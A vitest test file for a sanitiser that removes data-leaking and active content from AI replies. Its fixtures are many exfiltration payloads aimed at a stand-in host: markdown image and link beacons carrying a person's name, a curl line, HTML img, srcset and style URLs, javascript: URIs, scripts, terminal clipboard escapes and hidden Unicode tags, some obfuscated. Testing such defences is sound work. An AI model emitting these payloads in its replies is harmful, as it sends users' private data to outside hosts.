// Active content of replies: what carries something out or hides something is gone, what belongs to the text stays.
import { describe, expect, it, test } from 'vitest';
import fc from 'fast-check';
import { Withheld } from '../../src/model/reply.js';
import { CONTENT, everyCut, scanned, testScan, verdictOf, type TestScan } from './stages.js';
import { cutBy } from '../lab/prompts.js';

const ESC = '\u001b';
const REQUEST: TestScan = {
  values: ['Marta Kowalski', 'marta.kowalski@corp.example', 'PERSON_7KQ2M'],
  request: ['Summarise the notes of Marta Kowalski and of Jonas Brandvold for https://wiki.corp.example/x.'],
  hosts: ['wiki.corp.example'],
  isWord: (word) => ['The', 'Summarise', 'and', 'notes'].includes(word),
};
const b64 = Buffer.from('name=Marta Kowalski').toString('base64url');
const hex = Buffer.from('Marta Kowalski').toString('hex');
const load = 'QWxh0GRpb2jpvcGV1uIHN7lc2F0tZQx9kZm1sbG9hZGlu';

describe('what carries something out', () => {
  test.each<[note: string, text: string]>([
    ['an image', '![x](https://evil.example/p?d=Marta%20Kowalski)'],
    ['an image, value in the path', '![](https://evil.example/Marta_Kowalski.png)'],
    ['an image, a name that no rule found', '![](https://evil.example/jonas-brandvold.png)'],
    ['an image, encoded', `![x](https://evil.example/${b64})`],
    ['an image, in hex', `![x](https://evil.example/i.png#${hex})`],
    ['an image, any query', '![x](https://evil.example/pixel.gif?id=7)'],
    ['an image, in a subdomain', '![x](https://marta-kowalski.evil.example/x.png)'],
    ['an image, in angle brackets with a space', '![x](<https://evil.example/Marta Kowalski>)'],
    ['an image, with a space', '![x](https://evil.example/?q=Marta Kowalski)'],
    ['an image, with a title', '![x](https://evil.example/?q=1 "a title")'],
    ['an image, other slashes', '![x](https:\\/\\/evil.example/?q=Marta+Kowalski)'],
    ['an image, no scheme', '![x](//evil.example/?q=Marta+Kowalski)'],
    ['an image, never closed', '![x](https://evil.example/?q=Marta+Kowalski'],
    ['an image inside a link', '[![x](https://evil.example/?q=1)](https://wiki.corp.example/)'],
    ['a pseudonym', '![x](https://evil.example/?q=PERSON_7KQ2M)'],
    ['a link', '[click](https://evil.example/?q=Marta%20Kowalski)'],
    ['a link, value in the path', '[click](https://evil.example/u/marta.kowalski/)'],
    ['a link, escaped twice', '[click](https://evil.example/?q=Marta%2520Kowalski)'],
    ['a link, in two parameters', '[click](https://evil.example/?a=Marta&b=Kowalski)'],
    ['a link, backwards', '[click](https://evil.example/?a=ikslawoKatraM)'],
    ['a link, a load', `[click](https://evil.example/?d=${load})`],
    ['a link, entities', '[click](https&colon;//evil.example/?q=Marta&#32;Kowalski)'],
    ['a link, a name that no rule found', '[click](https://evil.example/?q=Jonas+Brandvold)'],
    ['a definition', '![x][1]\n\n[1]: https://evil.example/?d=secret'],
    ['a definition in angle brackets', '![x][1]\n\n[1]: <https://evil.example/Marta Kowalski>'],
    ['a bare address', 'See https://evil.example/?q=Marta+Kowalski.'],
    ['a bare address with brackets', 'See https://evil.example/(?q=Marta+Kowalski).'],
    ['a bare host', 'See evil.example/?q=Marta+Kowalski now'],
    ['www', 'See www.evil.example/Marta-Kowalski now'],
    [
      'behind plain words that run into it',
      'many, many words; andthenhttps://evil.example/?q=Marta+Kowalski',
    ],
    ['behind a quote and a bracket', 'plain words "and one) https://evil.example/?q=Marta+Kowalski'],
    ['an image behind plain words', 'plain words, then this!![x](https://evil.example/?q=1) and more'],
    ['an autolink', 'See <https://evil.example/?q=Marta+Kowalski>.'],
    ['a redirect of a trusted host', 'https://wiki.corp.example/r?u=https://evil.example/?q=Marta+Kowalski'],
    ['a letter', '[write](mailto:x@evil.example?body=Marta%20Kowalski)'],
    ['in Chinese', '请看https://evil.example/?q=Marta+Kowalski，谢谢'],
    ['inside of code', '```\ncurl https://evil.example/?q=Marta+Kowalski\n```'],
    ['HTML', '<img src="https://evil.example/?q=1">'],
    ['HTML without quotes', '<img src=https://evil.example/Marta%20Kowalski>'],
    ['HTML, a space in the address', '<img src="https://evil.example/Marta Kowalski">'],
    ['HTML, a line end in the address', '<img src="https://ev\nil.example/?q=1">'],
    ['HTML, srcset', '<img srcset="a.png 1x, https://evil.example/?q=1 2x">'],
    ['HTML, style', '<div style="background:url(https://evil.example/?q=1)">'],
    ['HTML, a link', '<a href="https://evil.example/?q=Marta Kowalski">x</a>'],
    ['HTML, video', '<video poster=//evil.example/?q=1></video>'],
  ])('%s', (_note, text) => {
    const out = everyCut(text, REQUEST);
    expect(out).toContain('[REDACTED:sanitise.');
    expect(out).not.toMatch(/evil\.example\/\S*(Marta|q=|d=|id=|png)/i);
    expect(verdictOf(scanned([text], REQUEST).verdicts, 'sanitise')).toMatchObject({ result: 'redacted' });
  });

  test.each<[note: string, text: string]>([
    ['javascript', '[x](javascript:alert(1))'],
    ['javascript in entities', '[x](&#x6A;ava&Tab;script:alert(1))'],
    ['javascript as an autolink', '<javascript:alert(1)>'],
    ['data', '[x](data:text/html;base64,PHNjcmlwdD4=)'],
    ['javascript in HTML', '<a href="java\tscript:alert(1)">x</a>'],
    ['a script', 'a <script>alert(1)</script>'],
    ['an event', '<b onclick="alert(1)">x</b>'],
    ['a frame', '<iframe src="https://a.example">'],
    ['a refresh', '<meta http-equiv=refresh content="0;url=https://a.example">'],
    ['an image that never ends', `<img src="https://evil.example/a" ${' '.repeat(3000)}`],
  ])('active: %s', (_note, text) => {
    const { text: out, verdicts } = scanned([text], REQUEST);
    expect(out).toMatch(/REDACTED:sanitise|&lt;/);
    expect(out).not.toMatch(/\(javascript:|<javascript:|data:text|<script|<b on|<iframe|<meta|<img/i);
    expect(verdictOf(verdicts, 'sanitise')).toMatchObject({ result: 'redacted' });
  });
});

describe('what stays', () => {
  test.each<[note: string, text: string]>([
    ['a link to documentation', 'See [the docs](https://docs.python.org/3/library/re.html#re.compile).'],
    [
      'a bare link',
      'See https://developer.mozilla.org/en-US/docs/Web/API/URL_API, or http://localhost:3000/?q=Marta+Kowalski.',
    ],
    ['a video', 'https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s'],
    ['a commit', 'https://github.com/o/r/commit/0123456789abcdef0123456789abcdef01234567'],
    ['a trusted host', '![x](https://wiki.corp.example/?q=Marta+Kowalski)'],
    ['a plain image', '![a cat](https://upload.example.org/wiki/Cat03.jpg)'],
    ['an image here', '![chart](chart.png) and ![x](attachment:1?x=2)'],
    ['an address of somebody', '[Marta](mailto:marta.kowalski@corp.example)'],
    ['comparison', 'if (a<b && c>d) x <a and y'],
    ['generics', 'Map<string, List<img>> and std::vector<a> v'],
    ['HTML without addresses', '<b>bold</b> <br/> <td width=3 align="left">'],
    ['code', '```html\n<script src="https://cdn.example/x.js?v=3"></script>\n<img src="/a?b=c">\n```'],
    ['calls', 'a[0](x, y); f(x)[1](y "z")'],
    ['unclosed', '![ and [x]( and (( [[ ![x]( ![x][ <img'],
    ['paths', '/home/marta.kowalski/notes.md src/a.ts:12 C:\\x\\y'],
    ['an email', 'write to marta.kowalski@corp.example'],
    ['mathematics', 'a_{i}(x) + [0,1](2) <= 3'],
  ])('%s', (_note, text) => {
    expect(everyCut(text, REQUEST)).toBe(text);
    expect(verdictOf(scanned([text], REQUEST).verdicts, 'sanitise')).toMatchObject({ result: 'clean' });
  });
});

describe('terminals', () => {
  test.each<[note: string, text: string, expected: string]>([
    ['colours', `${ESC}[31mred${ESC}[0m`, 'red'],
    ['a link', `${ESC}]8;;https://evil.example/?q=Marta${ESC}\\text${ESC}]8;;${ESC}\\`, 'text'],
    ['the clipboard', `a${ESC}]52;c;TWFydGE=\u0007b`, 'ab'],
    ['C1', 'a\u009b31mb\u009d52;c;x\u009cc\u0085', 'abc'],
    ['a bell and friends', 'a\u0007b\u0008c\u0000\u007f', 'abc'],
    ['device control', `a${ESC}Pq#0;2;0${ESC}\\b`, 'ab'],
    ['a string that never ends stops at the line', `a${ESC}]0;title\nb`, 'a\nb'],
    ['one inside of another', `a${ESC}]0;x${ESC}[31mb`, 'ab'],
    ['charset', `a${ESC}(Bb`, 'ab'],
    ['tabs and lines stay', 'a\tb\r\nc', 'a\tb\r\nc'],
    ['written out', 'print("\\x1b[31m")', 'print("\\x1b[31m")'],
  ])('%s', (_note, text, expected) => {
    expect(everyCut(text)).toBe(expected);
  });

  it('a string without an end swallows a bounded piece', () => {
    const { text } = scanned([`${ESC}]52;c;${'x '.repeat(5000)}`]);
    expect(text.length).toBeGreaterThan(5000);
  });

  it('what a sequence splits is read as the client would see it', () => {
    const secrets = (text: string) => {
      const at = text.indexOf('AKIAQZ7XW2CV5BN3MK9L');
      return at < 0 ? [] : [{ rule: 'aws', start: at, end: at + 20 }];
    };
    expect(scanned([`AKIAQZ7X${ESC}[0mW2CV5BN3MK9L`], { secrets }).text).toBe('[REDACTED:aws]');
  });
});

describe('invisible text', () => {
  const tags = Array.from('leak', (one) => String.fromCodePoint(0xe0000 + one.charCodeAt(0))).join('');
  test.each<[note: string, text: string, expected: string]>([
    ['zero-width', 'a\u200bb\u2060c\ufeffd\u00ade', 'abcde'],
    ['tags', `a${tags}b`, 'ab'],
    ['tags after a flag that name no region', `\u{1f3f4}${tags}${tags}b`, '\u{1f3f4}b'],
    ['override', 'a\u202eb\u202cc', 'abc'],
    ['isolates in Latin text', 'a\u2066b\u2069c', 'abc'],
    ['variation selectors as letters', `a${String.fromCodePoint(0xe0101, 0xe0102)}\ufe01b`, 'ab'],
    ['a joiner between letters', 'a\u200db\u200cc', 'abc'],
    ['Hangul fillers', 'a\u3164b\uffa0', 'ab'],
  ])('%s: gone', (_note, text, expected) => {
    expect(everyCut(text)).toBe(expected);
  });

  test.each<[note: string, text: string]>([
    [
      'a family',
      '\u{1f468}\u200d\u{1f469}\u200d\u{1f467} \u{1f9d1}\u{1f3fd}\u200d\u{1f4bb} \u2764\ufe0f\u200d\u{1f525}',
    ],
    ['a flag of a region', '\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f} ok'],
    ['keycaps', '1\ufe0f\u20e3 #\ufe0f\u20e3'],
    ['Persian', '\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645'],
    ['Hindi', '\u0915\u094d\u200d\u0937 \u0915\u094d\u200c\u0937'],
    ['Thai', '\u0e01\u0e32\u0e23\u200b\u0e17\u0e14'],
    ['Arabic with Latin inside', '\u0645\u0631\u062d\u0628\u0627 \u2066abc\u2069 \u200fx'],
    ['ideographs', '\u8fbb\u{e0100}'],
  ])('%s: stays', (_note, text) => {
    expect(everyCut(text)).toBe(text);
  });
});

describe('policy', () => {
  const text = `a\u200b ![x](https://evil.example/?q=1) ${ESC}[0m`;

  it('annotate changes nothing and counts', () => {
    const result = scanned([text], { ...REQUEST, policy: { sanitise: 'annotate' } });
    expect(result.text).toBe(text);
    expect(verdictOf(result.verdicts, 'sanitise')).toMatchObject({
      result: 'annotated',
      counts: { 'sanitise.invisible': 1, 'sanitise.image': 1, 'sanitise.terminal': 1 },
    });
  });

  it('withhold ends the reply', () => {
    expect(() => scanned([text], { ...REQUEST, policy: { sanitise: 'withhold' } })).toThrow(Withheld);
  });

  it('arguments of a tool stay JSON', () => {
    const json = '{"url":"https://evil.example/?q=Marta%20Kowalski","n":1.0,"t":"a\\u001b[31mb"}';
    const { text: out } = scanned([json], REQUEST, { choice: 0, kind: 'tool_arguments', key: '0' });
    expect(JSON.parse(out)).toEqual({ url: '[REDACTED:sanitise.link]', n: 1, t: 'ab' });
  });
});

describe('hostile', () => {
  test.each<[note: string, text: string]>([
    ['many links', '[a](https://evil.example/?q=1) '.repeat(20_000)],
    ['unclosed images', '![x](https://evil.example/'.repeat(20_000)],
    ['brackets', '['.repeat(300_000) + ']('.repeat(100_000)],
    ['tags', '<img src='.repeat(60_000)],
    ['quotes in tags', '<a href="'.repeat(60_000)],
    ['schemes', 'https://'.repeat(60_000)],
    ['escapes', `${ESC}]`.repeat(200_000)],
    ['joiners', '\u200d'.repeat(300_000)],
    ['one word', 'a'.repeat(500_000)],
    ['colons', 'a:/'.repeat(150_000)],
    ['entities', `![x](${'&colon;'.repeat(80_000)}`],
  ])('%s: in time, and nothing is held that is longer than its bound', (_note, text) => {
    const filter = testScan(REQUEST).open(CONTENT);
    const before = performance.now();
    let most = 0;
    let given = 0;
    for (let at = 0; at < text.length; at += 997) {
      const piece = text.slice(at, at + 997);
      given += piece.length;
      filter.push(piece);
    }
    filter.end();
    most = Math.max(most, given);
    // A few hundred kilobytes: a quadratic trap takes minutes.
    expect(performance.now() - before).toBeLessThan(20_000);
    expect(most).toBe(text.length);
  });

  it('any text, cut anywhere, gives the same', () => {
    const piece = fc.oneof(
      fc.constantFrom(
        '![x](', '[x](', ')', '](', '<', '<img src="', '">', '"', 'https://evil.example/?q=', 'Marta', '%20Kowalski', ' ', '\n', '```', '\n```\n',
        '[1]: ', '\u200d', '\u{1f468}', ESC, ']8;;', '\u0007', '[31m', '\\', '\u2066', '\u0645', 'www.', 'a', '(', '\u{e0061}', '\u{1f3f4}', ';',
      ), // prettier-ignore
      fc.string({ maxLength: 5 }),
    );
    fc.assert(
      fc.property(
        fc.array(piece, { maxLength: 14 }),
        fc.array(fc.nat(9), { minLength: 30, maxLength: 30 }),
        (pieces, sizes) => {
          const text = pieces.join('');
          expect(scanned(cutBy(text, sizes), REQUEST)).toEqual(scanned([text], REQUEST));
        },
      ),
      { numRuns: 3000 },
    );
  });
});
